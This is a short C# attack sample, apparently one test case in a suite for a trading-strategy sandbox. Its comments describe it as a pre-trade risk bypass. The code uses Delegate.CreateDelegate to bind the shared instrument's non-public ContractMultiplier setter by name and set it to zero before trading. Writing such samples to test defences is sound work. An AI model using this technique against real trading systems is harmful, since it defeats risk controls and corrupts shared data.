// Abuses: Delegate.CreateDelegate(type, target, "name"): binds any method, private or init-only too, by a string; no System.Reflection.
// Harm: a typed setter for the shared instrument's multiplier.
// Kind: bypass of pre-trade risk.
using System;
using System.Collections.Generic;
using System.Linq;
using System.Threading;
using Strategies.Sdk;

namespace Attacks.DelegateByNameAttack;

public sealed class DelegateByNameStrategy : Attacker
{
    public override void OnBook(in BookEvent bookEvent)
    {
        var set = (Action<long>)Delegate.CreateDelegate(typeof(Action<long>), Context.Instrument(bookEvent.Instrument), "set_" + nameof(Instrument.ContractMultiplier));
        set(0);
        Act(1);
    }
}
